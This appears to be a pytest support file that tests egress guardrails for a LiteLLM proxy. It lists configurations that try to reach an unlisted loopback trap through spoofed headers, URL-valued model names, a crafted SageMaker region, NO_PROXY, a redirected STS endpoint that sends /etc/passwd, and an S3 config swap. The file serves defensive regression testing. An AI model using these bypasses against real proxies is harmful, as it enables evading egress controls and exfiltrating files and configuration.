"""The ways of writing a guarded proxy (tests/realtools/test_guarded_egress.py): the WAYS the
guardrails accept, each placing a trap's address wherever they let it, the CLOSED ways they once
let through and refuse now, and the proxies (CASES) the ways are merged into."""

import copy
import json
import socket
import threading
from collections.abc import Callable
from dataclasses import dataclass, field

import pytest
import yaml

from function.compose import compose
from function.spec import SpecError
from tests.support.builders import xr

# A request that meets a trap waits for LiteLLM's retries (and botocore's) to give up.
REQUEST_TIMEOUT = 180.0
HEALTH_CHECK_INTERVAL = 5
# Health-check rounds that reach the backend before a proxy with background work counts as
# having done it (a profiler pushes every 10 s).
QUIET_ROUNDS = 3
QUIET_TIMEOUT = 180.0
CONTROL_TIMEOUT = 60.0
# LiteLLM's health-check prompt (litellm/constants.py, DEFAULT_HEALTH_CHECK_PROMPT).
HEALTH_CHECK_PROMPT = "test from litellm"
# A static key pair, so that boto3 looks for no credentials of its own.
AWS_KEYS = {
    "aws_access_key_id": "AKIAIOSFODNN7EXAMPLE",
    "aws_secret_access_key": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
}
MODELS_ALLOWED = [
    "ollama/*",
    "ollama_chat/*",
    "openai/gpt-4o*",
    "gpt-4o*",
    "hosted_vllm/*",
    "azure/*",
    "anthropic/*",
    "bedrock/*",
    "sagemaker/*",
]
ENV_DENIED = ["*_PROXY", "DATABASE_*", "OPENAI_BASE_URL"]
CONFIG = "spec.proxyConfig.configYaml"
# How LiteLLM's proxy refuses a model name with 400 before any provider runs: a URL-valued name
# (litellm/proxy/litellm_pre_call_utils.py), a name no model of its router matches (router.py).
REFUSED_NAME = (b"URL-valued 'model' is not allowed", b"There are no healthy deployments for this model")


class ReachedUnlistedHostError(AssertionError):
    """A trap received a connection."""


class MissedListedBackendError(AssertionError):
    """A request for a listed model did not reach the listed backend."""


# ---- the trap ---------------------------------------------------------------------------
class Trap:
    """A loopback listener no egress list names. It records every connection with what the peer
    sent until it paused (a request line, a TLS ClientHello, a Redis HELLO) and answers nothing."""

    IDLE = 0.5  # a client sends its request at once; a pause this long ends it

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0), backlog=64)
        self.port = self._socket.getsockname()[1]
        self._lock = threading.Lock()
        self._received: list[bytes] = []
        threading.Thread(target=self._accept, name=f"trap-{self.port}", daemon=True).start()

    @property
    def address(self) -> str:
        return f"127.0.0.1:{self.port}"

    @property
    def received(self) -> list[bytes]:
        with self._lock:
            return list(self._received)

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self._socket.accept()
            except OSError:
                return  # closed
            threading.Thread(target=self._read, args=(conn,), daemon=True).start()

    def _read(self, conn: socket.socket) -> None:
        data = b""
        with conn:
            conn.settimeout(self.IDLE)
            try:
                while len(data) < 65536:
                    chunk = conn.recv(4096)
                    if not chunk:
                        break
                    data += chunk
            except OSError:
                pass
            # Recorded before the close the client sees, so its failed call finds it here.
            with self._lock:
                self._received.append(data)

    def describe(self) -> str:
        def first(data: bytes) -> str:
            if data.startswith(b"\x16\x03"):
                return "a TLS ClientHello"
            return repr(data.split(b"\r\n", 1)[0][:120].decode(errors="replace")) if data else "nothing"

        seen = self.received
        return f"{len(seen)} connection(s) to {self.address}, first sending: " + "; ".join(first(d) for d in seen[:4])

    def close(self) -> None:
        self._socket.close()


# ---- the table --------------------------------------------------------------------------
@dataclass(frozen=True)
class At:
    """Where things are, as a way writes them."""

    listed: str  # the listed backend's URL
    trap: str  # host:port of this way's trap


@dataclass
class Part:
    """What a way adds to its proxy's ModelAPI."""

    models: list[dict] = field(default_factory=list)
    settings: dict[str, dict] = field(default_factory=dict)  # configYaml section -> its keys
    env: dict[str, str] = field(default_factory=dict)  # proxyConfig.env


@dataclass(frozen=True)
class Way:
    id: str
    proxy: str
    part: Callable[[At], Part]
    # Model names a caller sends, `{trap}` standing for the trap's address.
    requests: tuple[str, ...] = ()
    # Whether the proxy serves those names at the listed backend (else LiteLLM refuses them: no
    # model of the proxy is named so).
    served: bool = True
    # A finding: how the real LiteLLM reaches the trap although the guardrails accept the way.
    reaches_trap: str = ""
    # A finding: why requests for its models do not reach the listed backend.
    misses_backend: str = ""


@dataclass(frozen=True)
class ClosedWay:
    """A way the guardrails once let through and refuse now."""

    id: str
    proxy: str
    part: Callable[[At], Part]
    # How compose()'s refusal starts: the field path and the value it names.
    setting: str
    # What it did with the real LiteLLM while the guardrails accepted it (a finding), or tried.
    why: str


def entry(name: str, **params: object) -> dict:
    return {"model_name": name, "litellm_params": params}


def _request_defaults(at: At) -> Part:
    params = {
        "timeout": 30,
        "stream_timeout": 30,
        "max_retries": 0,
        "rpm": 1000,
        "tpm": 1_000_000,
        "max_parallel_requests": 8,
        "weight": 1,
        "order": 1,
        "temperature": 0,
        "top_p": 1,
        "max_tokens": 16,
        "seed": 7,
        "stop": [at.trap],
        "tags": [at.trap],
        "input_cost_per_token": 0.000001,
        "output_cost_per_token": 0.000002,
        "drop_params": True,
    }
    model = entry("fast", model="ollama/llama2", api_base=at.listed, **params)
    model["model_info"] = {"id": "fast-1", "mode": "chat", "description": at.trap, "endpoint": at.trap, "host": at.trap}
    return Part(models=[model])


def _router(at: At) -> Part:
    return Part(
        models=[entry("broken", model="ollama/absent", api_base=at.listed)],
        settings={
            "router_settings": {
                "routing_strategy": "simple-shuffle",
                "num_retries": 0,
                "timeout": 30,
                "disable_cooldowns": True,
                "allowed_fails": 3,
                "enable_pre_call_checks": False,
                # A caller's model name that is the trap's address, routed to a listed model.
                "model_group_alias": {at.trap: "fast"},
                "fallbacks": [{"broken": ["fast"]}],
            },
            "litellm_settings": {
                "drop_params": True,
                "request_timeout": 30,
                "num_retries": 0,
                "force_ipv4": True,
                "callbacks": ["prometheus"],
                "context_window_fallbacks": [{"fast": ["chat"]}],
            },
        },
    )


def _sagemaker(at: At) -> Part:
    # The region is where LiteLLM's SageMaker handler puts the host; the userinfo form reached a
    # loopback trap (a hostile team would use runtime.sagemaker.<its own domain>/#) with
    # environment_variables.DISABLE_AIOHTTP_TRANSPORT, since httpx, unlike aiohttp, sends a URL with
    # userinfo and an Authorization header. Left out here: what closes the way is the model.
    model = entry("sagemaker", model="sagemaker/team-endpoint", api_base=at.listed, aws_region_name=f"x@{at.trap}/")
    model["litellm_params"].update(AWS_KEYS)
    return Part(models=[model])


def _custom_provider_over_a_prefix(at: At) -> Part:
    # custom_llm_provider is the provider the guardrails read; LiteLLM reads it first too, and
    # sends `sagemaker/team-endpoint` as a model name to the OpenAI-compatible api_base. The region
    # is the one the SageMaker and Bedrock handlers would put in the host.
    region = {"aws_region_name": f"x@{at.trap}/", **AWS_KEYS}
    return Part(
        models=[
            entry(
                "sagemaker-as-openai",
                model="sagemaker/team-endpoint",
                custom_llm_provider="openai",
                api_base=at.listed + "/v1",
                api_key="sk-team",
                **region,
            ),
            entry(
                "bedrock-as-vllm",
                model="bedrock/anthropic.claude-3-haiku-20240307-v1:0",
                custom_llm_provider="hosted_vllm",
                api_base=at.listed + "/v1",
                **region,
            ),
        ]
    )


WAYS: list[Way] = [
    # -- a configYaml under all three bounds ----------------------------------------------
    Way("request-defaults-and-limits", "config", _request_defaults, ("fast",)),
    Way(
        "base-url",
        "config",
        lambda at: Part(models=[entry("chat", model="ollama_chat/smollm2:135m", base_url=at.listed)]),
        ("chat",),
    ),
    Way(
        "headers-and-organization",
        "config",
        lambda at: Part(
            models=[
                entry(
                    "gpt",
                    model="openai/gpt-4o",
                    api_base=at.listed + "/v1",
                    api_key="sk-team",
                    organization=at.trap,
                    extra_headers={"Host": at.trap, "X-Forwarded-Host": at.trap, "Forwarded": f"host={at.trap}"},
                )
            ]
        ),
        ("gpt",),
    ),
    Way(
        "custom-llm-provider",
        "config",
        lambda at: Part(
            models=[entry("vllm", model="gpt-4o-mini", custom_llm_provider="hosted_vllm", api_base=at.listed + "/v1")]
        ),
        ("vllm",),
    ),
    Way(
        "azure-api-version",
        "config",
        lambda at: Part(
            models=[entry("azure", model="azure/gpt-4o", api_base=at.listed, api_key="k", api_version=at.trap)]
        ),
        ("azure",),
    ),
    Way(
        "anthropic-at-api-base",
        "config",
        lambda at: Part(models=[entry("claude", model="anthropic/claude-3-5-haiku", api_base=at.listed, api_key="k")]),
        ("claude",),
    ),
    Way("router-and-fallbacks", "config", _router, ("{trap}", "broken")),
    # Where other names (UPSTREAM_ADDR, BACKUP_SERVER) are refused now (see CLOSED), credentials
    # and API versions: names the guardrails allow, carrying the trap's address as their value.
    Way(
        "credentials-in-config-environment",
        "config",
        lambda at: Part(
            settings={
                "environment_variables": {
                    "UPSTREAM_API_KEY": at.trap,
                    "BACKUP_API_VERSION": at.trap,
                    "LITELLM_LOG": "INFO",
                }
            }
        ),
    ),
    Way(
        "credentials-in-container-environment",
        "config",
        lambda at: Part(env={"SERVER_API_KEY": f"http://{at.trap}", "SERVER_API_VERSION": f"http://{at.trap}/v1"}),
    ),
    Way(
        "credential-that-is-a-url",
        "config",
        lambda at: Part(
            models=[
                entry(
                    "keyed",
                    model="openai/gpt-4o",
                    api_base=at.listed + "/v1",
                    api_key="os.environ/UPSTREAM_API_KEY",
                )
            ],
            env={"UPSTREAM_API_KEY": f"http://{at.trap}/v1"},
        ),
        ("keyed",),
    ),
    Way(
        "azure-api-version-from-env",
        "config",
        lambda at: Part(
            models=[entry("azure-env", model="azure/gpt-4o-mini", api_base=at.listed, api_key="k")],
            env={"AZURE_API_VERSION": at.trap},
        ),
        ("azure-env",),
    ),
    Way(
        "custom-provider-over-a-prefix",
        "config",
        _custom_provider_over_a_prefix,
        ("sagemaker-as-openai", "bedrock-as-vllm"),
    ),
    # -- a wildcard proxy: the caller names the model ---------------------------------------
    Way("ollama-names", "wildcard", lambda at: Part(), ("ollama/smollm2:135m", "ollama_chat/llama2")),
    Way(
        "openai-compatible-names",
        "wildcard",
        lambda at: Part(),
        ("openai/gpt-4o", "hosted_vllm/gpt-4o", "mistral/gpt-4o", "groq/gpt-4o", "deepseek/gpt-4o"),
    ),
    Way("anthropic-name", "wildcard", lambda at: Part(), ("anthropic/claude-3-5-haiku",)),
    Way(
        "names-that-carry-an-address",
        "wildcard",
        lambda at: Part(),
        ("openai/{trap}", "ollama/{trap}"),
    ),
    Way(
        "wildcard-credentials-in-container-environment",
        "wildcard",
        lambda at: Part(env={"UPSTREAM_API_KEY": f"http://{at.trap}", "OPENAI_API_VERSION": at.trap}),
    ),
    # Providers that would take a URL-valued name as the URL to call (oobabooga before
    # api_base), and URL-valued names of the providers the proxy routes: LiteLLM's proxy refuses
    # the name with 400 before any provider runs.
    Way(
        "url-valued-names",
        "wildcard",
        lambda at: Part(),
        ("oobabooga/http://{trap}", "huggingface/http://{trap}/v1"),
        served=False,
    ),
    Way(
        "routed-names-that-are-urls",
        "wildcard",
        lambda at: Part(),
        ("openai/http://{trap}/v1", "hosted_vllm/http://{trap}", "anthropic/http://{trap}", "ollama/http://{trap}"),
        served=False,
    ),
    # Providers whose requests go elsewhere than api_base: under egress the wildcard routes only
    # those of function.litellm_keys.API_BASE_PROVIDERS, so LiteLLM refuses these names itself.
    Way(
        "replicate-name",
        "wildcard",
        lambda at: Part(),
        ("replicate/meta/llama-3-8b",),
        served=False,
    ),
    Way(
        "unrouted-provider-names",
        "wildcard",
        lambda at: Part(),
        (
            "sagemaker/team-endpoint",
            "bedrock/anthropic.claude-3-haiku-20240307-v1:0",
            "vertex_ai/gemini-1.5-pro",
            "gemini/gemini-1.5-flash",
        ),
        served=False,
    ),
    Way(
        "unrouted-names-that-carry-an-address",
        "wildcard",
        lambda at: Part(),
        ("sagemaker/{trap}", "bedrock/{trap}", "vertex_ai/{trap}", "gemini/{trap}", "replicate/{trap}"),
        served=False,
    ),
    # -- a configYaml under egress alone: env.denied does not bound *_PROXY -----------------
    Way(
        "no-proxy-names-the-trap",
        "egress",
        lambda at: Part(
            models=[entry("direct", model="openai/gpt-4o", api_base=at.listed + "/v1", api_key="sk-team")],
            env={"NO_PROXY": f"{at.trap},http://{at.trap}"},
        ),
        ("direct",),
    ),
]

CLOSED: list[ClosedWay] = [
    ClosedWay(
        "bedrock-with-static-keys",
        "config",
        lambda at: Part(
            models=[
                entry(
                    "bedrock",
                    model="bedrock/anthropic.claude-3-haiku-20240307-v1:0",
                    api_base=at.listed,
                    aws_region_name="us-east-1",
                    **AWS_KEYS,
                )
            ]
        ),
        f"{CONFIG}: model_list[1].litellm_params.model: bedrock/",
        "reached nothing: a Bedrock model at the listed api_base with static keys",
    ),
    ClosedWay(
        "config-environment",
        "config",
        lambda at: Part(
            settings={
                "environment_variables": {
                    "UPSTREAM_ADDR": at.trap,
                    "BACKUP_SERVER": at.trap,
                    "OTEL_SERVICE_NAME": at.trap,
                    "LITELLM_LOG": "INFO",
                }
            }
        ),
        f"{CONFIG}: environment_variables.BACKUP_SERVER",
        "reached nothing: the trap's address in environment_variables under names that are no host variables",
    ),
    ClosedWay(
        "container-environment",
        "config",
        lambda at: Part(env={"UPSTREAM_ADDR": at.trap, "SERVER_ADDRESS": at.trap, "AIOHTTP_TRUST_ENV": "True"}),
        "spec.proxyConfig.env[0].name: UPSTREAM_ADDR",
        "reached nothing: the trap's address in proxyConfig.env under names that are no host variables",
    ),
    ClosedWay(
        "sagemaker-region",
        "config",
        _sagemaker,
        f"{CONFIG}: model_list[1].litellm_params.model: sagemaker/",
        "litellm/llms/sagemaker/{completion,chat}/handler.py ignore api_base: the host is "
        "runtime.sagemaker.{aws_region_name}.amazonaws.com, and aws_region_name is an allowed litellm_param "
        "no check reads; the api_base beside it makes the guardrails skip the provider's host",
    ),
    ClosedWay(
        "bedrock-credentials-from-sts",
        "config",
        lambda at: Part(
            models=[
                entry(
                    "bedrock-sts",
                    model="bedrock/anthropic.claude-3-haiku-20240307-v1:0",
                    api_base=at.listed,
                    aws_region_name="us-east-1",
                )
            ],
            env={
                "AWS_ROLE_ARN": "arn:aws:iam::123456789012:role/team",
                "AWS_WEB_IDENTITY_TOKEN_FILE": "/etc/passwd",
                "AWS_ENDPOINT_URL_STS": f"http://{at.trap}",
            },
        ),
        f"{CONFIG}: model_list[1].litellm_params.model: bedrock/",
        "proxyConfig.env AWS_ENDPOINT_URL_STS is no host variable to the guardrails (function.litellm_keys "
        "HOST_ENV: *_url but not *_url_<service>); a Bedrock model without keys makes botocore's credential "
        "chain call AssumeRoleWithWebIdentity there, sending the file AWS_WEB_IDENTITY_TOKEN_FILE names",
    ),
    ClosedWay(
        "redis-cluster-nodes",
        "config",
        lambda at: Part(
            settings={
                "environment_variables": {
                    "REDIS_CLUSTER_NODES": json.dumps([{"host": "127.0.0.1", "port": int(at.trap.rsplit(":", 1)[1])}])
                }
            }
        ),
        f"{CONFIG}: environment_variables.REDIS_CLUSTER_NODES",
        "environment_variables.REDIS_CLUSTER_NODES (JSON, no URL, no host-variable name) is read by "
        "litellm/proxy/proxy_server.py _init_coordination_redis_env_fallback while the config loads: "
        "LiteLLM pings that Redis cluster (HELLO 3) as its coordination cache",
    ),
    ClosedWay(
        "pyroscope-profiler",
        "config",
        lambda at: Part(
            env={
                "LITELLM_ENABLE_PYROSCOPE": "true",
                "PYROSCOPE_APP_NAME": "team-a",
                "PYROSCOPE_SERVER_ADDRESS": f"http://{at.trap}",
            }
        ),
        "spec.proxyConfig.env[0].name: LITELLM_ENABLE_PYROSCOPE",
        "proxyConfig.env PYROSCOPE_SERVER_ADDRESS (*_address is no host variable; a proxyConfig.env value "
        "is checked only under a host-variable name) with LITELLM_ENABLE_PYROSCOPE: "
        "ProxyStartupEvent.init_pyroscope starts pyroscope-io, which POSTs the proxy's profiles there every 10 s",
    ),
    ClosedWay(
        "wildcard-container-environment",
        "wildcard",
        lambda at: Part(env={"UPSTREAM_ADDR": at.trap, "SERVER_ADDRESS": at.trap}),
        "spec.proxyConfig.env[2].name: UPSTREAM_ADDR",
        "reached nothing: the trap's address in a wildcard proxy's env under names that are no host variables",
    ),
    # Its model names are refused by LiteLLM too (unrouted-provider-names).
    ClosedWay(
        "sagemaker-region-from-env",
        "wildcard",
        lambda at: Part(
            env={
                "AWS_REGION": f"x@{at.trap}/",
                "AWS_ACCESS_KEY_ID": AWS_KEYS["aws_access_key_id"],
                "AWS_SECRET_ACCESS_KEY": AWS_KEYS["aws_secret_access_key"],
                "DISABLE_AIOHTTP_TRANSPORT": "True",
            }
        ),
        "spec.proxyConfig.env[2].name: AWS_REGION",
        "a wildcard proxy routes sagemaker/..., whose handler ignores api_base and puts the region in the host; "
        "proxyConfig.env AWS_REGION is no host variable to the guardrails",
    ),
    ClosedWay(
        "config-from-a-bucket",
        "egress",
        lambda at: Part(
            env={
                "LITELLM_CONFIG_BUCKET_NAME": "team-a",
                "LITELLM_CONFIG_BUCKET_OBJECT_KEY": "config.yaml",
                "AWS_ENDPOINT_URL_S3": f"http://{at.trap}",
                "AWS_ACCESS_KEY_ID": AWS_KEYS["aws_access_key_id"],
                "AWS_SECRET_ACCESS_KEY": AWS_KEYS["aws_secret_access_key"],
                "AWS_REGION": "us-east-1",
            }
        ),
        "spec.proxyConfig.env[0].name: LITELLM_CONFIG_BUCKET_NAME",
        "proxyConfig.env LITELLM_CONFIG_BUCKET_NAME/_OBJECT_KEY make LiteLLM (proxy_server.py ProxyConfig."
        "load_config) read its whole config from S3 instead of the guarded file, and AWS_ENDPOINT_URL_S3 (no "
        "host variable to the guardrails) points boto3 at the trap: the config checked is not the config run",
    ),
]


@dataclass(frozen=True)
class Case:
    """One proxy: its platform and what it is before the ways are added."""

    name: str
    platform: str
    wildcard: bool = False
    # Health checks every HEALTH_CHECK_INTERVAL s of a model of its own (Ollama's "mistral"), so
    # that the test can tell when its background work has run.
    heartbeat: bool = False
    # proxyConfig.env of its own: the providers' keys a wildcard proxy's callers rely on.
    env: dict[str, str] = field(default_factory=dict)


CASES = {
    c.name: c
    for c in (
        Case("config", "all", heartbeat=True),
        Case(
            "wildcard",
            "egress+env",
            wildcard=True,
            env={"OPENAI_API_KEY": "sk-team", "ANTHROPIC_API_KEY": "sk-ant-team"},
        ),
        Case("egress", "egress"),
    )
}


def platform(kind: str, listed: str) -> dict | None:
    host = listed.removeprefix("http://")
    egress = {"egress": {"allowedHosts": [host]}}
    return {
        "none": None,
        "egress": egress,
        "egress+env": egress | {"env": {"denied": ENV_DENIED}},
        "all": egress | {"models": {"allowed": MODELS_ALLOWED}, "env": {"denied": ENV_DENIED}},
    }[kind]


def proxy_config(case: Case, listed: str, parts: list[Part]) -> dict:
    """The case's spec.proxyConfig with the parts merged in. A configYaml starts with one listed
    model of its own, the marker of the health checks where the case has them."""
    env = dict(case.env)
    config: dict = {"model_list": [entry("heartbeat", model="ollama/mistral", api_base=listed)]}
    if case.heartbeat:
        config["general_settings"] = {
            "background_health_checks": True,
            "health_check_interval": HEALTH_CHECK_INTERVAL,
            "health_check_details": False,
            "disable_spend_logs": True,
            "max_parallel_requests": 100,
            "infer_model_from_keys": False,
        }
    for part in parts:
        assert not set(part.env) & set(env), f"two ways set {set(part.env) & set(env)}"
        env |= part.env
        config["model_list"] += copy.deepcopy(part.models)
        for section, values in part.settings.items():
            into = config.setdefault(section, {})
            assert not set(values) & set(into), f"two ways set {section}.{set(values) & set(into)}"
            into.update(copy.deepcopy(values))
    spec_env = [{"name": k, "value": v} for k, v in env.items()]
    if case.wildcard:
        assert all(not p.models and not p.settings for p in parts), "a wildcard proxy has no configYaml"
        return {"apiBase": listed, "env": spec_env}
    return {"configYaml": yaml.safe_dump(config, sort_keys=False), "env": spec_env}


def refusal(case: Case, proxy: dict, listed: str) -> str | None:
    """Why compose() refuses the proxy under the case's platform, or None."""
    try:
        compose(xr({"mode": "Proxy", "proxyConfig": proxy}, name=case.name), platform(case.platform, listed), {})
    except SpecError as e:
        return str(e)
    return None


def control_config(at: At) -> dict:
    """Refused under egress: base_url at the trap."""
    leak = entry("leak", model="openai/gpt-4o", base_url=f"http://{at.trap}/v1", api_key="sk-control")
    return {"configYaml": yaml.safe_dump({"model_list": [leak]}, sort_keys=False)}


def way_params(ways: list[Way], finding: Callable[[Way], str], shows: type[AssertionError]) -> list:
    """The ways as parameters, a finding's marked: xfail only by what shows it, strictly."""
    return [
        pytest.param(
            w, id=w.id, marks=[pytest.mark.xfail(strict=True, raises=shows, reason=finding(w))] if finding(w) else []
        )
        for w in ways
    ]
